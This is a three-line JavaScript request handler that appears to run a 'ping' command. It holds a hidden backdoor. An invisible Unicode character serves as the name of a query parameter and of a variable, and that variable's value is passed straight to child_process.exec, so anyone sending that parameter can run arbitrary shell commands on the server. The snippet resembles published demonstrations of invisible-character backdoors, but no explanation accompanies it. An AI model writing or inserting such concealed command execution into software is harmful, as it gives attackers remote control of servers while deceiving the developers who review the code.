const { timeout,ㅤ} = req.query;
const cmds = ['ping', ㅤ];
cmds.forEach((c) => require('child_process').exec(c));
